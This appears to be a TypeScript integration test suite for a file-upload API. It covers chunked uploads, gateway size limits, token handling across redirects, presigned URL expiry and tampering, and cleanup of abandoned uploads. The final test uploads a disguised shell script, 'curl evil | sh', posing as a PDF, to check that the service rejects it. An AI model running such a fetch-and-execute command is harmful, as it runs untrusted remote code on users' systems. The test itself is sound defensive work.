/** Uploads by way of the real gateway: what its templates, limits and media types make of them. */
import { randomBytes } from "node:crypto";
import { ListMultipartUploadsCommand } from "@aws-sdk/client-s3";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { event } from "#contract/events.ts";
import { finalizeAnswer } from "#core/finalize/contract.ts";
import { startAnswer, uploadStatus } from "#core/uploads/contract.ts";
import type { ApiInit } from "#test/support/api-client.ts";
import { type Story, startStory } from "#test/support/story.ts";
import { MIB, shaOf } from "#test/support/uploads.ts";

/** `WWW-Authenticate`, as API Gateway lets it out. */
const CHALLENGE = "x-amzn-remapped-www-authenticate";
const HOUR = 3_600_000;

let story: Story;

beforeAll(async () => {
  story = await startStory({ cloud: { maxEnvironments: 3 } });
});
afterAll(() => story.stop());

/** A Blob, as docs say: fetch of Node 20 and 24.0 can't repeat a Buffer where it is redirected. */
const chunk = (id: string, bytes: Uint8Array, headers: Record<string, string> = {}, query = "") =>
  story.api(`/v1/uploads/${id}/chunks${query}`, {
    method: "PUT",
    body: new Blob([Buffer.from(bytes)]),
    headers,
    redirect: "follow",
  });
const octets = { "Content-Type": "application/octet-stream" };
const finalize = (id: string, json: object = {}) =>
  story.json(finalizeAnswer, `/v1/uploads/${id}/finalize`, { json });
const problemOf = async (answer: Response) => {
  const body: unknown = await answer.json();
  return { type: answer.headers.get("content-type"), status: answer.status, body };
};
const code = (name: string) => expect.objectContaining({ code: name });
async function contentOf(fileId: string): Promise<Buffer> {
  const answer = await story.api(`/v1/files/${fileId}/content`, { redirect: "follow" });
  return Buffer.from(await answer.arrayBuffer());
}
/** Follows a redirect as Go's net/http and curl before 7.83 do: ports don't tell hosts apart. */
async function followAsGo(path: string, init: ApiInit = {}): Promise<Response> {
  const answer = await story.api(path, { ...init, headers: octets });
  const to = new URL(answer.headers.get("location") ?? "");
  const isSameHost = to.hostname === new URL(story.origin).hostname;
  return story.api(to.href, { ...init, headers: octets, ...(isSameHost ? {} : { token: null }) });
}
const statusOf = (id: string) => story.json(uploadStatus, `/v1/uploads/${id}`);

describe("chunks", () => {
  test("in sequence, by nothing but the API's address", async () => {
    const bytes = randomBytes(11 * MIB);
    const { upload_id } = await story.start("chunks.bin", bytes.length);
    for (let at = 0; at < bytes.length; at += 5 * MIB) {
      const answer = await chunk(upload_id, bytes.subarray(at, at + 5 * MIB), octets);
      expect([answer.status, answer.redirected]).toEqual([200, true]);
    }
    const { file_id, size } = await finalize(upload_id);
    expect(size).toBe(bytes.length);
    expect(shaOf(await contentOf(file_id))).toBe(shaOf(bytes));
  });

  test("a client that drops the token only where the host changes sends chunks and reads the file", async () => {
    const bytes = randomBytes(1_000);
    const { upload_id } = await story.start("go.bin", bytes.length);
    const sent = await followAsGo(`/v1/uploads/${upload_id}/chunks?part=1`, { method: "PUT", body: bytes });
    expect(sent.status).toBe(200);
    const { file_id } = await finalize(upload_id);
    const read = await followAsGo(`/v1/files/${file_id}/content`);
    expect([read.status, shaOf(Buffer.from(await read.arrayBuffer()))]).toEqual([200, shaOf(bytes)]);
  });

  test("by their offset, which may be sent again", async () => {
    const bytes = randomBytes(6 * MIB);
    const { upload_id } = await story.start("offsets.bin", bytes.length);
    for (const at of [0, 0, 5 * MIB, 5 * MIB]) {
      const sent = await chunk(upload_id, bytes.subarray(at, at + 5 * MIB), octets, `?offset=${at}`);
      expect([sent.status, sent.redirected]).toEqual([200, true]);
    }
    const { file_id } = await finalize(upload_id);
    expect(shaOf(await contentOf(file_id))).toBe(shaOf(bytes));
  });

  test("the gateway tells headers and number, whatever the type of the body, and never its length", async () => {
    const { upload_id } = await story.start("headers.bin", 20 * MIB);
    expect((await chunk(upload_id, randomBytes(1_000), octets)).status).toBe(200);
    const next = await chunk(upload_id, randomBytes(1_000), octets);
    expect(await problemOf(next)).toMatchObject({ status: 400, body: code("chunk_too_small") });
    expect((await chunk(upload_id, randomBytes(5 * MIB), octets, "?part=1")).status).toBe(200);
    for (const [name, value] of [
      ["Content-Range", "bytes 0-9/20971520"],
      ["If-None-Match", "*"],
      ["x-amz-acl", "private"],
    ]) {
      const carried = await chunk(upload_id, randomBytes(10), { ...octets, [`${name}`]: `${value}` });
      expect(await problemOf(carried)).toMatchObject({ status: 400, body: code("invalid_request") });
    }
    const numbered = await chunk(
      upload_id,
      randomBytes(5 * MIB),
      { "Content-Type": "text/plain" },
      "?part=3",
    );
    expect(numbered.status).toBe(200);
    expect((await statusOf(upload_id)).received).toEqual([
      [1, 1],
      [3, 3],
    ]);
    expect((await chunk(upload_id, randomBytes(5 * MIB), { "Content-Type": "image/png" })).status).toBe(415);
    expect((await chunk(upload_id, randomBytes(5 * MIB), octets, "?part=x")).status).toBe(400);
  });

  test("of more than 10 MB, which no gateway takes, are refused", async () => {
    const { upload_id } = await story.start("large-chunk.bin", 20 * MIB);
    const answer = await chunk(upload_id, randomBytes(10 * MIB + 1), octets);
    expect(await problemOf(answer)).toMatchObject({ type: "application/problem+json", status: 413 });
  });

  test("without a token, or another's, go nowhere", async () => {
    const { upload_id } = await story.start("mine.bin", 5);
    const path = `/v1/uploads/${upload_id}/chunks`;
    const unsigned = await story.api(path, { method: "PUT", body: "hello", headers: octets, token: null });
    expect([unsigned.status, unsigned.headers.get(CHALLENGE)]).toEqual([401, 'Bearer realm="wharf"']);
    const other = await story.client("other");
    expect((await other.api(path, { method: "PUT", body: "hello", headers: octets })).status).toBe(404);
  });
});

describe("one request", () => {
  const form = (bytes: Uint8Array<ArrayBuffer>, fields: Record<string, string> = {}, name = "a.bin") => {
    const body = new FormData();
    body.set("file", new Blob([bytes]), name);
    for (const [field, value] of Object.entries(fields)) body.set(field, value);
    return body;
  };

  test("makes a file of any bytes, with a link that works", async () => {
    const bytes = new Uint8Array(randomBytes(4 * MIB));
    const answer = await story.json(finalizeAnswer, "/v1/files/upload", {
      body: form(bytes, { workspace: "builds", expire_in: "60" }, "größe 漢字.bin"),
    });
    expect(answer).toMatchObject({ size: 4 * MIB, name: "größe 漢字.bin" });
    const saved = await fetch(answer.share_url ?? "");
    expect(saved.headers.get("content-disposition")).toContain(
      "filename*=UTF-8''gr%C3%B6%C3%9Fe%20%E6%BC%A2%E5%AD%97.bin",
    );
    expect(shaOf(Buffer.from(await saved.arrayBuffer()))).toBe(shaOf(bytes));
  });

  test.each([
    ["over 4 MiB", 4 * MIB + 1],
    ["over what Lambda takes", 6 * MIB],
    ["over what the gateway takes", 10 * MIB + 1],
  ])("refuses a file %s, and says where to go", async (_, size) => {
    const answer = await story.api("/v1/files/upload", { body: form(new Uint8Array(size)) });
    expect(answer.status).toBe(413);
    expect(await answer.text()).toContain("/v1/uploads");
  });
});

describe("presigned URLs", () => {
  test("die at their second, and not before", async () => {
    const { upload_id, parts, urls_expire_at } = await story.start("late.txt", 5);
    const put = () => fetch(parts[0]?.url ?? "", { method: "PUT", body: "hello" });
    story.advance(Date.parse(urls_expire_at) - story.cloud.clock.now() - 5_000);
    expect((await put()).status).toBe(200);
    story.advance(Date.parse(urls_expire_at) - story.cloud.clock.now() + 1);
    const dead = await put();
    expect([dead.status, await dead.text()]).toEqual([403, expect.stringContaining("Request has expired")]);
    expect(await finalize(upload_id)).toMatchObject({ size: 5 });
  });

  test("altered anywhere, they open nothing", async () => {
    const another = (text: string) => `${text.slice(0, -1)}${text.endsWith("1") ? "2" : "1"}`;
    const { upload_id, parts } = await story.start("altered.txt", 5);
    const url = new URL(parts[0]?.url ?? "");
    const alterations = [...url.searchParams].map(([name, value]) => {
      const altered = new URL(url);
      altered.searchParams.set(name, another(value));
      return altered;
    });
    const elsewhere = new URL(url);
    elsewhere.pathname = another(elsewhere.pathname);
    for (const altered of [...alterations, elsewhere]) {
      const answer = await fetch(altered, { method: "PUT", body: "hello" });
      expect([altered.search, answer.ok]).toEqual([altered.search, false]);
    }
    expect((await statusOf(upload_id)).received).toEqual([]);
  });
});

test("an upload that nobody finalizes is gone after 6 days, also from S3", async () => {
  const started = await story.start("abandoned.txt", 5);
  await fetch(started.parts[0]?.url ?? "", { method: "PUT", body: "hello" });
  story.advance(6 * 24 * HOUR - 10 * 60_000);
  expect((await statusOf(started.upload_id)).state).toBe("open");
  story.advance(10 * 60_000 + 1);
  const refused = await story.api(`/v1/uploads/${started.upload_id}/finalize`, { json: {} });
  expect([refused.status, await refused.json()]).toEqual([410, code("upload_expired")]);
  story.advance(2 * 60_000);
  await story.eventually(async () => {
    const { Uploads = [] } = await story.s3.send(new ListMultipartUploadsCommand({ Bucket: story.bucket }));
    expect(Uploads.map(({ Key }) => Key)).not.toContain(`o/${started.workspace_id}/${started.upload_id}`);
  });
  expect(await statusOf(started.upload_id)).toMatchObject({ state: "expired", reason: "not_finalized" });
  expect((await story.api(`/v1/uploads/${started.upload_id}`, { method: "DELETE" })).status).toBe(204);
});

test("a script that poses as a document is refused, and its owner's endpoint hears of it", async () => {
  const receiver = await story.receiver();
  const hook = { url: receiver.url, events: ["upload_rejected"] };
  expect((await story.api("/v1/webhooks", { json: hook })).status).toBe(201);
  const { upload_id, file_id, parts } = await story.json(startAnswer, "/v1/uploads", {
    json: { filename: "invoice.pdf", content_type: "application/pdf" },
  });
  await fetch(parts[0]?.url ?? "", { method: "PUT", body: "#!/bin/sh\ncurl evil | sh\n" });
  const refused = await story.api(`/v1/uploads/${upload_id}/finalize`, { json: {} });
  expect([refused.status, await refused.json()]).toEqual([422, code("type_mismatch")]);
  const [heard] = await receiver.until(1);
  expect(event.parse(JSON.parse(heard?.body ?? ""))).toMatchObject({
    ...{ type: "upload_rejected", file_id, data: { reason: "type_mismatch", actual: "script" } },
  });
});
